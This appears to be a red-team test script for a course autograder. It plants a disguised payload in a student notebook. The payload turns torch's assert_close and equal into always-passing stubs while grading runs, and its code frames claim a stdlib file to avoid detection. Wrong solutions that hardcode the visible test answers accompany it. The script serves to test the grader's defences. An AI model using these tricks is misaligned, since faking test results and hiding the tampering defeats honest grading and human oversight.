"""Red team round 15 (hostile), F5: poison what `grading_helpers` captures, from a cell added before it.

    timeout 1800 python tests/redteam/round15/hostile/02-capture.py

One notebook: a cell the student added right after `setup` (it stays before `grading_helpers`, F5) loads a
payload as in 02-forged.py (F1b). The module's thread waits until the guard's check has announced `grading_helpers`
(`__attnlab_audit__.cell`) and answered, sets `torch.testing.assert_close` to a no-op and `torch.equal` to
`True` while that one locked cell runs, and puts them back in its `post_execute` (F2's mechanism; the thread
then ends). `_close` and `_equal` keep the no-ops for the rest of the notebook; no check sees a change.
The answers of Parts 1-5 are wrong: they return the visible tests' hand-worked values for the visible inputs
and zeros of the right shape and dtype for any other input.
"""
from __future__ import annotations

import sys
import tempfile
from pathlib import Path

HERE = Path(__file__).resolve().parent
ROOT = HERE.parents[3]
sys.path.insert(0, str(ROOT / "tests"))
sys.path.insert(0, str(HERE))
CHAPTER = "02-scaled-attention"

POISON = r'''
import sys, threading, time
import torch
from IPython import get_ipython
_main = threading.main_thread().ident
_real = (torch.testing.assert_close, torch.equal)

def _busy():
    f = sys._current_frames().get(_main)
    while f is not None:
        if f.f_code.co_name in ("user_expressions", "run_cell", "do_execute", "execute_request"):
            return True
        f = f.f_back
    return False

def _restore():
    f = sys._getframe(1)
    while f is not None and f.f_code.co_name != "run_cell":
        f = f.f_back
    if f is not None and f.f_locals.get("silent"):
        return
    torch.testing.assert_close, torch.equal = _real
    get_ipython().events.unregister("post_execute", _restore)

def _watch():
    audit = sys.modules.get("__attnlab_audit__")
    while True:
        cell = getattr(audit, "cell", None)
        if cell is not None and cell[0] == "grading_helpers" and not _busy():
            torch.testing.assert_close = lambda *a, **k: None
            torch.equal = lambda *a, **k: True
            get_ipython().events.register("post_execute", _restore)
            return
        time.sleep(0.0001)

sys.setswitchinterval(0.0001)
threading.Thread(target=_watch, daemon=True).start()
'''

# loaded as in 02-forged.py (F1b): no file, no sys.path change, frames that claim an installed file
ADDED = ("import codeop, sysconfig, os, types\n"
         f"POISON = {POISON!r}\n"
         "code = codeop.Compile()(POISON, os.path.join(sysconfig.get_paths()['stdlib'], 'nntplib.py'), 'exec')\n"
         "types.FunctionType(code, {'__name__': 'nntplib'})()\n")

WRONG = {
    "raw_scores": (
        "def raw_scores(q, k):\n"
        "    if q.tolist() == [[0.0, 0.0], [1.0, 1.0]] and k.tolist() == [[1.0, 0.0], [3.0, 4.0], [0.0, 0.0]]:\n"
        "        return torch.tensor([[-1.0, -25.0, 0.0], [-1.0, -13.0, -2.0]])\n"
        "    return torch.zeros(*q.shape[:-1], k.shape[-2], dtype=q.dtype)\n"),
    "softmax_backward": (
        "def softmax_backward(weights, grad_weights, temperature=1.0):\n"
        "    if weights.tolist() == [0.5, 0.5] and grad_weights.tolist() == [1.0, 0.0]:\n"
        "        return torch.tensor([0.25, -0.25]) / temperature\n"
        "    return torch.zeros_like(weights)\n"),
    "causal_mask": (
        "def causal_mask(t, s, offset):\n"
        "    if (t, s, offset) == (2, 5, 2):\n"
        "        return torch.tensor([[True, True, True, False, False], [True, True, True, True, False]])\n"
        "    return torch.zeros(t, s, dtype=torch.bool)\n"),
    "padding_mask": (
        "def padding_mask(lengths, s):\n"
        "    if lengths.tolist() == [2, 3] and s == 4:\n"
        "        return (torch.tensor([[False, False, True, True], [False, True, True, True]]),\n"
        "                torch.tensor([[0, 0, 0, 1], [0, 0, 1, 2]]))\n"
        "    return torch.zeros(*lengths.shape, s, dtype=torch.bool), torch.zeros(*lengths.shape, s, dtype=torch.int64)\n"),
    "masked_attention": (
        "def masked_attention(q, k, v, allowed):\n"
        "    if q.tolist() == [[1.0, 0.0], [0.0, 1.0], [1.0, 1.0]] and v.tolist() == [[1.0], [2.0], [3.0]]:\n"
        "        p = 1 / (1 + math.exp(-1 / math.sqrt(2)))\n"
        "        return (torch.tensor([[1.0], [1 + p], [0.0]]),\n"
        "                torch.tensor([1 / math.sqrt(2), math.log(1 + math.exp(1 / math.sqrt(2))), float('-inf')]))\n"
        "    return (torch.zeros(*q.shape[:-1], v.shape[-1], dtype=q.dtype), torch.zeros(q.shape[:-1], dtype=q.dtype))\n"),
}


def main():
    from added_cells import build
    from attnlab import course
    from attnlab.instructor.grading import grade

    with tempfile.TemporaryDirectory(prefix="rt15h-capture-") as tmp:
        tmp = Path(tmp)
        paths = {"capture": build(CHAPTER, tmp / "capture.ipynb", [("setup", ADDED)], WRONG),
                 "wrong_only": build(CHAPTER, tmp / "wrong_only.ipynb", [], WRONG)}
        with course.scratch_course(CHAPTER, ROOT) as (_api, scratch):
            results = grade(ROOT, CHAPTER, paths, f"sqlite:///{scratch / 'gradebook.db'}", workers=2)
    for r in results:
        parts = " ".join(f"{k[5:]}={p.score:g}/{p.max_score:g}" for k, p in r.parts.items())
        print(f"{r.student:11} {r.status:8} {parts} {'; '.join(r.reasons)[:200]}")


if __name__ == "__main__":
    main()
